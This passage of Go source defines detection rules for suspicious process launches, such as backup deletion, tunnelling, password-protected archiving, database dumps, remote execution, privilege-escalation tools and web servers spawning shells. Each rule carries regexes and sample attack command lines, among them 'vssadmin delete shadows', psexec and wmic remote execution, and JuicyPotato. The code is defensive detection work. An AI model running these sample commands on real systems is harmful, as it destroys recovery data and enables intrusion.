		Why:   "deletes the means of recovery", Source: attackBase + "T1490/",
		Hit: []string{"cmd.exe > vssadmin delete shadows /all /quiet"}, Miss: []string{"cmd.exe > vssadmin list shadows"},
	},
	{
		ID: "proc-firewall-proxy", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1090.001", "T1572"}, Whole: true,
		Words: []string{"portproxy", "plink", "ssh", "chisel", "frp", "ngrok", "lcx", "htran", "earthworm", "ew"},
		Args:  `netsh\s.{0,40}portproxy\s+add|\bplink\S*\s.{0,120}-[rld]\s|\bssh\b.{0,120}\s-[a-z]*r\s*\S*\d+:|\bchisel\b.{0,40}(?:client|server)|\bfrpc?\b.{0,20}\s-c\s|\bngrok\b|\blcx\b.{0,10}-(?:slave|listen)|htran\b|earthworm|\bew\S*\s+-s\s+(?:rssocks|ssocksd)`,
		Why:   "makes a tunnel", Source: attackBase + "T1572/",
		Hit: []string{"cmd.exe > netsh interface portproxy add v4tov4 listenport=8080 connectport=3389 connectaddress=10.0.0.5"}, Miss: []string{"bash > ssh admin@db1"},
	},

	// Collecting and moving on.
	{
		ID: "proc-archive", Class: RCE, Any: Medium, Web: High, Techniques: []string{"T1560.001"}, Whole: true,
		Words: []string{"rar", " a ", "zip"},
		Args:  `\b(?:win)?rar(?:\.exe)?\s+a\s.{0,200}-(?:hp|p)\S|\s+a\s+(?:\S+\s+){0,6}-hp\S+|\b7z\S*\s+a\s.{0,200}-p\S|\bzip\s.{0,100}(?:-p|--password)\s*\S`,
		Why:   "packs files under a password", Source: attackBase + "T1560/001/",
		Hit: []string{"cmd.exe > rar a -hpsecret -v200m d.rar c:\\data", "cmd.exe > r.exe a -r -hpx c:\\windows\\temp\\a.dat c:\\share"}, Miss: []string{"cmd.exe > rar a backup.rar c:\\data"},
	},
	{
		ID: "proc-archive-web", Class: RCE, Web: Medium, Techniques: []string{"T1560.001"}, Names: []string{"rar", "winrar", "7z", "7za", "7zr", "makecab", "compact", "compress-archive"},
		Why: "packs files", Source: attackBase + "T1560/001/",
		Hit: []string{`w3wp.exe > cmd /c makecab c:\data\a.mdb c:\inetpub\wwwroot\a.cab`}, Miss: []string{"cmd.exe > 7z a b.7z c:\\data"},
	},
	{
		ID: "proc-database-dump", Class: RCE, Web: Medium, Techniques: []string{"T1005", "T1213"}, Names: []string{"mysqldump", "pg_dump", "sqlcmd", "osql", "bcp", "mongodump", "expdp", "mysql", "psql"}, Args: `.`,
		Not: `--version|-v$`, Why: "works on a database from a shell", Source: attackBase + "T1005/",
		Hit: []string{"apache2 > sh -c mysqldump -uroot -px shop > /tmp/s.sql"}, Miss: []string{"cron > mysqldump shop"},
	},
	{
		ID: "proc-remote-exec", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1021.002", "T1569.002", "T1047"}, Whole: true,
		Words: []string{"psexe", "paexec", "wmic", "process call", "winrs", "invoke-command", "pssession", "nxc", "crackmapexec", "netexec", "cme", "exec", "sc ", "sc.exe", "at ", "schtasks"},
		Args:  `\bpsexe(?:c|svc)\S*\s.{0,40}\\\\|\bpaexec\b|\bwmic\b.{0,200}/node:.{0,200}process\s+call\s+create|process\s+call\s+create.{0,120}(?:cmd|powershell|rundll32|mshta|regsvr32|http)|\bwinrs\b.{0,20}-r:|invoke-command\s.{0,60}-computername|enter-pssession|\b(?:nxc|crackmapexec|netexec|cme)(?:\.exe)?\s+(?:smb|winrm|ldap|mssql|wmi|ssh)\b|\b(?:wmi|smb|at|ps|dcom)exec(?:\.py)?\s|\bsc(?:\.exe)?\s+\\\\\S+\s+(?:create|start)|\bat\s+\\\\|\bschtasks\b.{0,80}/s\s+\S+.{0,200}/create|\bschtasks\b.{0,20}/create.{0,200}\s/s\s`,
		Why:   "runs something on another machine", Source: attackBase + "T1021/",
		Hit: []string{`cmd.exe > psexec.exe -accepteula \\10.0.0.5 cmd`, `cmd.exe > wmic /node:10.0.0.5 process call create "cmd /c a.bat"`}, Miss: []string{"cmd.exe > wmic os get caption"},
	},
	{
		ID: "proc-net-use", Class: RCE, Web: High, Techniques: []string{"T1021.002", "T1018"}, Names: []string{"ping", "nmap", "masscan", "fscan", "nbtscan", "xcopy", "robocopy", "copy"}, Args: `\\\\|\d{1,3}\.\d{1,3}\.\d{1,3}\.|-[a-z]|/i\b`,
		Why: "reaches for other machines or copies to and from them", Source: attackBase + "T1018/",
		Hit: []string{"w3wp.exe > cmd /c ping -n 1 10.0.0.5", `w3wp.exe > cmd /c copy a.exe \\10.0.0.5\c$\windows\temp`}, Miss: []string{"cmd.exe > ping 10.0.0.5"},
	},
	{
		ID: "proc-kill-change", Class: RCE, Web: Medium, Techniques: []string{"T1222", "T1564.001", "T1070.004", "T1489"}, Names: []string{"attrib", "icacls", "cacls", "takeown", "taskkill", "chattr", "iisreset", "shutdown"},
		Why: "changes rights, hides files or ends processes", Source: attackBase + "T1222/",
		Hit: []string{`w3wp.exe > cmd /c attrib +h +s c:\inetpub\wwwroot\a.aspx`}, Miss: []string{"cmd.exe > iisreset /status"},
	},
	{
		ID: "proc-privilege", Class: RCE, Any: Medium, Web: Critical, Techniques: []string{"T1068", "T1134.001"}, Whole: true,
		Words: []string{"potato", "printspoofer", "seimpersonate", "ms1", "churrasco", "iis6", "dirty", "pwnkit", "cve-20"},
		Args:  `\b(?:juicy|rotten|sweet|god|rogue|hot|bad|efs|pet|coerced)potato\b|\bprintspoofer\b|seimpersonate|\bms1\d-\d{3}\b.{0,40}\.exe|\bchurrasco\b|\biis6\S*\.exe|dirtycow|dirtypipe|pwnkit|cve-20\d\d-\d{4,}`,
		Why:   "a tool that raises privileges, by its name", Source: attackBase + "T1134/001/",
		Hit: []string{`w3wp.exe > cmd /c c:\windows\temp\JuicyPotato.exe -l 1337 -p cmd.exe -t *`}, Miss: []string{"cmd.exe > potato-shop.exe"},
	},
}

// serverRules are about what a server has no reason to start, whatever it does.
var serverRules = []ProcessRule{
	{
		ID: "proc-server-shell", Class: RCE, Web: High, Self: true, Techniques: []string{"T1505.003", "T1059"}, Names: []string{"cmd", "powershell", "pwsh", "sh", "bash", "dash", "zsh", "ksh", "csh"}, Args: `^(?:-i|-li|-il|-p|-pi|--norc|-noexit|/k|-nop|-noni|-noprofile|-)*\s*$|-noexit\b|^/q\s*$`,
		Why: "the server starts a shell and tells it nothing to do: someone types into it", Source: sourceCISAWS,
		Hit: []string{"w3wp.exe > cmd.exe", "apache2 > /bin/bash -i", "java -Dcatalina.home=/opt/t > /bin/sh -i", `tomcat9.exe > C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, Miss: []string{"explorer.exe > cmd.exe", `w3wp.exe > cmd.exe /c D:\jobs\nightly.cmd`, "apache2 > sh -c /srv/bin/list | sh"},
	},
	{
		ID: "proc-server-powershell", Class: RCE, Web: Medium, Techniques: []string{"T1059.001", "T1505.003"}, Names: []string{"powershell", "pwsh"}, Args: `[-/]c(?:o[a-z]*)?\s|[-/]w(?:in[a-z]*)?\s+(?:h|1)|[-/]ep?(?:x[a-z]*)?\s+bypass`, Not: `-file\s`,
		Why: "the server runs PowerShell commands", Source: sourceCISAWS,
		Hit: []string{`w3wp.exe > powershell.exe -Command "Get-Process"`}, Miss: []string{`w3wp.exe > powershell.exe -NoProfile -File D:\jobs\report.ps1`, `svchost.exe > powershell.exe -Command "Get-Process"`},
	},
	{
		ID: "proc-server-lolbin", Class: RCE, Web: Medium, Techniques: []string{"T1218", "T1505.003"}, Names: []string{"certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "msbuild", "installutil", "regasm", "cmstp", "wmic", "reg", "regedit", "net", "net1", "netsh", "sc", "schtasks", "at", "nltest", "ntdsutil", "vssadmin", "wevtutil", "psexec", "msiexec", "hh", "forfiles", "pcalua", "appcmd", "csvde", "ldifde", "dsquery", "esentutl", "diskshadow", "bcdedit", "fltmc", "auditpol", "cmdkey", "klist", "setspn", "gpresult", "nc", "ncat", "netcat", "socat", "gdb", "strace", "gcc", "sudo", "su"},
		Why: "the server runs a tool of the system that a site has no use for", Source: sourceCISAWS,
		Hit: []string{"w3wp.exe > netsh wlan show profiles", "w3wp.exe > cmd /c reg add hklm\\x /v a"}, Miss: []string{"services.exe > msiexec /V", `w3wp.exe > csc.exe /noconfig @x.cmdline`},
	},
	{
		ID: "proc-server-script-host", Class: RCE, Web: Low, Techniques: []string{"T1059.005"}, Names: []string{"wscript", "cscript"},
		Why: "the server runs a script host", Source: sourceCISAWS,
		Hit: []string{`w3wp.exe > cscript.exe //nologo D:\jobs\a.vbs`}, Miss: []string{`explorer.exe > wscript.exe a.vbs`},
	},
	{
		ID: "proc-server-inline", Class: RCE, Web: Medium, Techniques: []string{"T1059.006"}, Names: []string{"python", "python2", "python3", "perl", "ruby", "lua", "php"}, Args: `(?:^|\s)-[a-z]*[cer]\s`, Not: `^-r\s+['"]?(?:echo\s+)?phpversion|php_version|-r\s+echo\s`,
		Why: "the server hands an interpreter its program on the command line", Source: attackBase + "T1059/006/",
		Hit: []string{"apache2 > sh -c python3 -c 'import os'"}, Miss: []string{"apache2 > sh -c python3 /srv/app/report.py", "bash > python3 -c 'print(1)'"},
	},
}
